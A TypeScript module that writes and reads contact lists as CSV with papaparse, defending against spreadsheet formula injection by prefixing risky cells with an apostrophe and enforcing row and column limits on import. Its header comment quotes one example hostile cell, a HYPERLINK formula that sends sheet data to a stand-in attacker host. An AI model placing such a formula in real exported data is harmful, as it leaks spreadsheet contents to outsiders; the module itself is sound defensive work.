/**
 * Contacts as CSV (RFC 4180, CRLF, UTF-8), written and read with papaparse.
 *
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab or carriage
 * return) as a formula, and coworkers' contact fields are untrusted (a name
 * `=HYPERLINK("https://evil.example/?"&A1)` would send the sheet's data away). Every such cell is
 * written with a leading apostrophe, which spreadsheets read as "this is text" and do not show
 * (papaparse's `escapeFormulae`). Reading a CSV takes that apostrophe off again, so an E.164
 * number written as `'+4930…` comes back as `+4930…`.
 */
import Papa from 'papaparse';
import { CallbarError } from '../errors';
import { said } from '../text/said';
import { FIELD_HEADINGS, RECORD_FIELDS, type ContactRecord } from './contact-record';

/** What starts a formula in a spreadsheet; such a cell is written after an apostrophe. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A cell neutralised by an export (or by hand, the same way). */
const NEUTRALISED = /^'[=+\-@\t\r]/;

const UNPARSE: Papa.UnparseConfig = { newline: '\r\n', escapeFormulae: FORMULA_START };

/** The heading line; with `phonebook`, a Phonebook column first (an export of every phonebook). */
export function csvHeading(withPhonebook: boolean): string {
  const headings = RECORD_FIELDS.map((field) => FIELD_HEADINGS[field]);
  return Papa.unparse([withPhonebook ? ['Phonebook', ...headings] : headings], UNPARSE) + '\r\n';
}

/** One line per contact, each ending in CRLF. */
export function csvLines(records: readonly ContactRecord[], phonebook?: string): string {
  if (records.length === 0) return '';
  const rows = records.map((record) => {
    const cells = RECORD_FIELDS.map((field) => cellText(record[field]));
    return phonebook === undefined ? cells : [phonebook, ...cells];
  });
  return Papa.unparse(rows, UNPARSE) + '\r\n';
}

/** Any cells as CSV lines (the failures report); formulas neutralised the same way. */
export function csvTable(rows: readonly (readonly (string | number | null)[])[]): string {
  return (
    Papa.unparse(
      rows.map((row) => row.map(cellText)),
      UNPARSE,
    ) + '\r\n'
  );
}

function cellText(value: string | number | null): string {
  return value === null ? '' : String(value);
}

/** A table read from CSV: its header cells and its rows (each as long as the header). */
export interface CsvTable {
  headers: string[];
  rows: string[][];
}

/** Bounds of a CSV an import reads (the file's size is bounded before this). */
export interface CsvBounds {
  maxRows: number;
  maxColumns: number;
}

/**
 * Parses `text` (first line: headings). Blank lines are skipped; a row with fewer cells than
 * headings is padded, one with more is refused with its line. Neutralised cells are restored.
 */
export function parseCsv(text: string, bounds: CsvBounds): CsvTable {
  const parsed = Papa.parse<string[]>(text, {
    header: false,
    skipEmptyLines: 'greedy',
    // One row more than allowed (plus the heading) tells "too many" without reading them all.
    preview: bounds.maxRows + 2,
  });
  const fatal = parsed.errors.find((error) => error.type === 'Quotes');
  if (fatal) {
    throw new CallbarError(
      'import_unreadable',
      said('errors:import.csvMalformed', {
        problem: fatal.message.toLowerCase(),
        row: (fatal.row ?? 0) + 1,
      }),
    );
  }
  const [headers = [], ...rows] = parsed.data;
  if (headers.length === 0 || headers.every((cell) => cell.trim() === '')) {
    throw new CallbarError('import_unreadable', said('errors:import.noHeadings'));
  }
  if (headers.length > bounds.maxColumns) {
    throw new CallbarError(
      'import_too_large',
      said('errors:import.tooManyColumns', {
        columns: headers.length,
        max: bounds.maxColumns,
      }),
    );
  }
  if (rows.length > bounds.maxRows) {
    throw new CallbarError(
      'import_too_large',
      said('errors:import.tooManyContacts', { max: bounds.maxRows }),
    );
  }
  return {
    headers: headers.map((cell) => restoreCell(cell).trim()),
    rows: rows.map((row, index) => {
      if (row.length > headers.length) {
        throw new CallbarError(
          'import_unreadable',
          said('errors:import.tooManyCells', {
            row: index + 2,
            cells: row.length,
            headings: headers.length,
          }),
        );
      }
      const cells = row.map(restoreCell);
      while (cells.length < headers.length) cells.push('');
      return cells;
    }),
  };
}

/** A cell as it was before an export neutralised it. */
export function restoreCell(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}
